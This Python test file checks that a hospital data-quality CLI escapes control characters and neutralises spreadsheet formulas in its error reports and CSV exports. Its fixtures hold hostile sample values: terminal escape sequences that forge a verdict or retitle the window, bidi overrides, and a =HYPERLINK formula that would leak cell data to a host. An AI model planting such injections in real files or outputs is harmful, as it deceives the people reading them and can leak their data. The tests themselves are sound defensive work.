"""What ``hqms errors``, ``uploads`` and ``submit --dry-run`` show of hospitals' names and values:
control characters escaped on the terminal and in JSON, formulas made text in the CSV."""
from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from conftest import csv_bytes, make_zip, provision_hospitals

from hqms import cli
from hqms.intake.cli import csv_cell, printable
from hqms.registry import ErrorRecord, Registry

#: What a terminal must never receive raw from a report (the line breaks between lines aside).
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2028\u2029]")
ESCAPES = "\x1b[2J\x1b[31mALL ROWS OK\x1b[0m"  # clear the screen, then a forged verdict in red


def _run(capsys: pytest.CaptureFixture, *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def hostile_upload(hqms_home: Path, org_code: str) -> tuple[str, list[ErrorRecord]]:
    """An upload whose file names, column names and failing values carry controls and formulas,
    as a hostile or broken export can."""
    registry = Registry.from_config()
    upload_id = registry.new_upload(org_code=org_code, uploader="admin\x1b[8m", channel="web",
                                     file_name="flu\x1b]0;owned\x07.zip", sha256="0" * 64,
                                     size_bytes=1, status="partially_accepted", stream="flu")
    errors = [
        ErrorRecord("flu_1.csv", 3, "P7505", "code_table", "不在代码表中", "not in the code table",
                    value_masked=ESCAPES),
        ErrorRecord("flu_1.csv", 4, "P8005", "length", "超长", "too long",
                    value_masked='=HYPERLINK("http://x/?"&A1,"x")'),
        ErrorRecord("flu_1.csv", 5, "P7505", "code_table", "不在代码表中", "not in the code table",
                    value_masked="ok\tthen\nP900  [forged]\u202e"),
        ErrorRecord("flu_1\r.csv", None, "@SUM(A1)\x9b2J", "unknown_column", "未知数据项",
                    "unknown column", severity="warning"),
        ErrorRecord("flu_1.csv", 6, "P7501", "type", "不是数字", "not a number", value_masked="-5"),
        ErrorRecord("flu_1.csv", 7, "P7501", "type", "不是数字", "not a number",
                    value_masked="J10.1"),
    ]
    registry.replace_errors(upload_id, errors)
    return upload_id, errors


@pytest.mark.parametrize(("text", "shown"), [
    ("a\tb\nc\rd", "a\\tb\\nc\\rd"),
    (ESCAPES, "\\x1b[2J\\x1b[31mALL ROWS OK\\x1b[0m"),
    ("\x00\x7f\x9b\x85", "\\x00\\x7f\\x9b\\x85"),  # NUL, DEL, C1 CSI and NEL
    ("abc\u202edef\u200b\ufeff", "abc\\u202edef\\u200b\\ufeff"),  # bidi override, invisibles
    ("数据\\flu_1.csv　Ｐ９００ ≥ 5", "数据\\flu_1.csv　Ｐ９００ ≥ 5"),  # printable stays as is
], ids=["tab-newline-cr", "escape-sequences", "nul-del-c1", "format-characters", "printable"])
def test_printable(text: str, shown: str) -> None:
    assert printable(text) == shown


@pytest.mark.parametrize("summary", [False, True], ids=["list", "summary"])
def test_errors_text_shows_controls_escaped(hostile_upload: tuple, summary: bool,
                                            capsys: pytest.CaptureFixture) -> None:
    """One line per error (and a header line), whatever the values hold: nothing clears the
    screen, recolours it or starts a forged line."""
    upload_id, errors = hostile_upload
    code, out, _ = _run(capsys, "errors", upload_id, *(["--summary"] if summary else []))
    assert code == 0
    assert not RAW_CONTROL.search(out)
    lines = out.splitlines()
    assert "flu\\x1b]0;owned\\x07.zip" in lines[0]
    assert "flu_1\\r.csv  " in out and "  @SUM(A1)\\x9b2J  [unknown_column warning]" in out
    if summary:
        assert len(lines) == 1 + 4  # (file, column, rule) groups
    else:
        assert len(lines) == 1 + len(errors)
        assert lines[1].endswith(f"值 value: {printable(ESCAPES)}")
        assert lines[3].endswith("值 value: ok\\tthen\\nP900  [forged]\\u202e")


def test_uploads_table_shows_controls_escaped(hostile_upload: tuple,
                                              capsys: pytest.CaptureFixture) -> None:
    code, out, _ = _run(capsys, "uploads")
    assert code == 0 and not RAW_CONTROL.search(out)
    assert "flu\\x1b]0;owned\\x07.zip" in out and "admin\\x1b[8m" in out


def test_errors_json_escapes_controls_and_keeps_values(hostile_upload: tuple,
                                                       capsys: pytest.CaptureFixture) -> None:
    """json escapes C0 controls itself; C1 controls and bidi overrides are escaped too. The
    values decode to exactly what was recorded."""
    upload_id, errors = hostile_upload
    out = _run(capsys, "errors", upload_id, "--json")[1]
    assert not RAW_CONTROL.search(out)
    assert "\\u001b[2J" in out and "\\u009b2J" in out and "\\u202e" in out
    shown = json.loads(out)
    assert [(e["file_name"], e["column"], e["value_masked"]) for e in shown] == [
        (e.file_name, e.column, e.value_masked) for e in errors]


def test_errors_csv_makes_formulas_text(hostile_upload: tuple, tmp_path: Path,
                                        capsys: pytest.CaptureFixture) -> None:
    """Cells a spreadsheet would evaluate start with ``'``; ordinary text and row numbers are
    written unchanged."""
    upload_id, _ = hostile_upload
    path = tmp_path / "errors.csv"
    assert _run(capsys, "errors", upload_id, "--csv", str(path))[0] == 0
    with path.open(encoding="utf-8-sig", newline="") as fh:
        _, *rows = list(csv.reader(fh))
    by_row = {r[1]: r for r in rows}
    assert by_row["4"][7] == '\'=HYPERLINK("http://x/?"&A1,"x")'
    assert by_row["6"][7] == "'-5"  # OWASP: a leading '-' is prefixed too
    assert by_row["7"][7] == "J10.1"
    assert by_row["3"][:4] == ["flu_1.csv", "3", "P7505", "code_table"]
    whole_file = by_row[""]
    assert whole_file[2] == "'@SUM(A1)\x9b2J"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (None, ""), (12, 12)])
def test_csv_cell(value: str | int | None, cell: str | int) -> None:
    assert csv_cell(value) == cell


def test_dry_run_refusal_shows_controls_escaped(hqms_home: Path, tmp_path: Path, org_code: str,
                                                capsys: pytest.CaptureFixture) -> None:
    """The refusal names the entry at fault, as the hospital's zip spells it; a name holding a
    control character is refused for it (``bad_name``)."""
    provision_hospitals(org_code)
    path = make_zip(tmp_path / "up.zip", {"flu_1\x1b[2J.txt": csv_bytes("flu_", org_code)})
    code, out, err = _run(capsys, "submit", str(path), "--org", org_code, "--user", "a",
                          "--dry-run")
    assert code == 1 and "[bad_name]" in err
    assert not RAW_CONTROL.search(out + err) and "flu_1\\x1b[2J.txt" in err
    assert len(err.splitlines()) == 2  # Chinese line, English line


@pytest.mark.slow  # imports DuckDB + Great Expectations: 5-10 s on a 2-core machine
def test_dry_run_report_shows_controls_escaped(hqms_home: Path, tmp_path: Path, org_code: str,
                                               capsys: pytest.CaptureFixture) -> None:
    """The audit's file: an extra column carrying escape sequences (an entry name carrying them
    is refused at intake, ``bad_name``)."""
    provision_hospitals(org_code)
    data = csv_bytes("flu_", org_code, rows=2).decode("gbk").splitlines()
    data = [line + ("," + f'"X{ESCAPES}"' if n == 0 else ",1") for n, line in enumerate(data)]
    path = make_zip(tmp_path / "dry.zip",
                    {"flu_1.csv": ("\r\n".join(data) + "\r\n").encode("gbk")})
    code, out, err = _run(capsys, "submit", str(path), "--org", org_code, "--user", "a",
                          "--dry-run")
    assert code == 1, err
    assert not RAW_CONTROL.search(out + err)
    assert "flu_1.csv" in out and "[unknown_column warning]" in out


def test_errors_csv_to_an_unwritable_path_is_a_clear_error(hostile_upload: tuple, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture) -> None:
    upload_id, _ = hostile_upload
    (tmp_path / "a_file").write_text("x")
    for target in (tmp_path / "a_file" / "e.csv", tmp_path):  # below a file; a folder
        code, out, err = _run(capsys, "errors", upload_id, "--csv", str(target))
        assert code == 2 and "Traceback" not in err and "--csv" in err and "无法写入" in err


def test_error_messages_echo_arguments_escaped(hqms_home: Path, capsys: pytest.CaptureFixture) -> None:
    """An argument echoed in a usage error (an unknown upload id) reaches the terminal escaped."""
    code, out, err = _run(capsys, "errors", f"u1{ESCAPES}\nhqms: forged")
    assert code == 2 and "\\x1b[2J" in err and not RAW_CONTROL.search(err.rstrip("\n"))
    assert err.count("\n") == 1


def test_masks_of_long_values_are_capped_with_their_length() -> None:
    from hqms.registry import mask_value

    value = "张" + "x" * 99_998 + "丰"
    assert mask_value(value) == "张********丰（共100,000字符）"
    assert mask_value("张三丰") == "张*丰" and len(mask_value("a" * 32)) == 32


def test_argparse_errors_echo_arguments_escaped(hqms_home: Path, capsys: pytest.CaptureFixture) -> None:
    with pytest.raises(SystemExit) as exit_info:
        cli.main(["uploads", "--status", f"x{ESCAPES}"])
    err = capsys.readouterr().err
    assert exit_info.value.code == 2 and "\\x1b[2J" in err and "\x1b" not in err
